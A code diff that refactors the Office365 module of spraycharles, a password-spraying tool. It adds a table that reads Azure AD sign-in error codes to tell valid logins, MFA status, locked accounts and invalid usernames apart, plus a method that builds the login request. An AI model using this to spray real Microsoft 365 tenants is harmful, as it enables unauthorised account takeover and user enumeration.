@@ -1,14 +1,47 @@
-import json
-import datetime
-import requests
+from spraycharles.lib.utils import SprayResult, UsernameFormat
 
-from spraycharles.lib.utils import SprayResult
-from spraycharles.lib.logger import logger, JSON_FMT
+from .classes.Attempt import AttemptResult, HttpRequest
+from .classes.BaseHttpTarget import BaseHttpTarget
 
 
-class Office365:
+class Office365(BaseHttpTarget):
     NAME = "Office365"
     DESCRIPTION = "Spray Microsoft Office 365"
+    USERNAME_FORMAT = UsernameFormat.UPN
+
+    # Thanks to dafthack for figuring out the error codes: https://github.com/dafthack/MSOLSpray
+    RULES = [
+        {"status": 200, "result": "Success", "message": "Valid login; no MFA"},
+
+        # standard error code
+        {"json": "error_codes.0", "value": 50126, "result": "Fail", "message": ""},
+
+        # Microsoft's MFA in use
+        {"json": "error_codes.0", "value": 50076, "result": "Success", "message": "Microsoft MFA in use"},
+
+        # Microsoft's MFA must be onboarded
+        {"json": "error_codes.0", "value": 50079, "result": "Success", "message": "Microsoft MFA must be onboarded"},
+
+        # DUO or other MFA in use
+        {"json": "error_codes.0", "value": 50158, "result": "Success", "message": "Non-Microsoft MFA in use"},
+
+        # user password expired
+        {"json": "error_codes.0", "value": 50055, "result": "Success", "message": "User's password is expired"},
+
+        {"json": "error_codes.0", "value": 50034, "result": "Invalid user", "message": "Invalid username"},
+
+        # tenant does not exist. Is domain using Office365?
+        {"json": "error_codes.0", "value": [50128, 50059], "result": "Fail", "message": "Tenant account does not exist"},
+
+        # locked account
+        {"json": "error_codes.0", "value": 50053, "result": "Locked", "message": "Account appears locked"},
+
+        # account disabled
+        {"json": "error_codes.0", "value": 50057, "result": "Disabled", "message": "Account appears disabled"},
+
+        # all other codes
+        {"result": "Fail", "message": "Unknown error code returned"},
+    ]
 
     def __init__(self, host, port, timeout, fireprox):
 
@@ -36,21 +69,16 @@ class Office365:
             "scope": "openid",
         }
 
-    def set_username(self, username):
-        self.data["username"] = username
-
-    def set_password(self, password):
-        self.data["password"] = password
-
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        self.set_password(password)
-        # post the request
-        response = requests.post(
-            self.url, headers=self.headers, data=self.data, timeout=self.timeout
-        )  # , verify=False, proxies=self.proxyDict)
-        return response
+    def prepare(self, username, password):
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
+            headers=self.headers,
+            data={**self.data, "username": username, "password": password},
+            timeout=self.timeout,
+            verify=True,
+        )
 
     #
     # Print table headers
@@ -72,108 +100,22 @@ class Office365:
         print("-" * len(header))
 
 
-    #
-    # Print individual login attempt result
-    #
-    def print_response(self, response, outfile, timeout=False, print_to_screen=True):
-        if timeout:
-            code = "TIMEOUT"
-            length = "TIMEOUT"
-        else:
-            code = response.status_code
-            length = str(len(response.content))
-
-        if response.status_code == 200:
-            result = "Success"
-            message = "Valid login; no MFA"
-        else:
-            data = json.loads(response.content)
-            err = data["error_description"].split(":")[0]
-
-            # Thanks to dafthack for figuring out the error codes: https://github.com/dafthack/MSOLSpray
-            # standard error code
-            if err == "AADSTS50126":
-                result = "Fail"
-                message = ""
-
-            # Microsoft's MFA in use
-            elif err == "AADSTS50076":
-                result = "Success"
-                message = "Microsoft MFA in use"
-
-            # Microsoft's MFA must be onboarded
-            elif err == "AADSTS50079":
-                result = "Success"
-                message = "Microsoft MFA must be onboarded"
-
-            # DUO or other MFA in use
-            elif err == "AADSTS50158":
-                result = "Success"
-                message = "Non-Microsoft MFA in use"
-
-            # user password expired
-            elif err == "AADSTS50055":
-                result = "Success"
-                message = "User's password is expired"
-
-            elif err == "AADSTS50034":
-                result = "Fail"
-                message = "Invalid username"
-
-            # tenant does not exist. Is domain using Office365?
-            elif err in ["AADSTS50128", "AADSTS50059"]:
-                result = "Fail"
-                message = "Tenant account does not exist"
-
-            # locked account
-            elif err == "AADSTS50053":
-                result = "Fail"
-                message = "Account apppears locked"
-
-            # account disabled
-            elif err == "AADSTS50057":
-                result = "Fail"
-                message = "Account appears disabled"
-
-            # all other codes
-            else:
-                result = "Fail"
-                message = "Unknown error code returned"
-
-        if print_to_screen:
-            print(
-                "%-13s %-30s %-35s %-25s %13s %15s"
-                % (
-                    result,
-                    message,
-                    self.data["username"],
-                    self.data["password"],
-                    code,
-                    length,
-                )
-            )
-        
-        self.log_attempt(result, message, code, length, outfile)
+    def timeout_result(self, spec):
+        return AttemptResult(spec.username, spec.password, result="Fail", message="Timeout", timeout=True)
 
 
     #
-    # Log attempt as JSON object to file
+    # Print individual login attempt result
     #
-    def log_attempt(self, result, message, code, length, outfile):
-        output = open(outfile, "a")
-        data = json.dumps(
-            {
-                SprayResult.TIMESTAMP       : datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M:%S"),
-                SprayResult.MODULE          : self.__class__.__name__,
-                SprayResult.RESULT          : result,
-                SprayResult.MESSAGE         : message,
-                SprayResult.USERNAME        : self.data["username"],
-                SprayResult.PASSWORD        : self.data["password"],
-                SprayResult.RESPONSE_CODE   : code,
-                SprayResult.RESPONSE_LENGTH : length,
-            }
+    def print_result(self, result):
+        print(
+            "%-13s %-30s %-35s %-25s %13s %15s"
+            % (
+                result.result,
+                result.message,
+                result.username,
+                result.password,
+                result.shown("code"),
+                result.shown("length"),
+            )
         )
-        logger.debug(data, extra=JSON_FMT)
-        output.write(data)
-        output.write("\n")
-        output.close()
\ No newline at end of file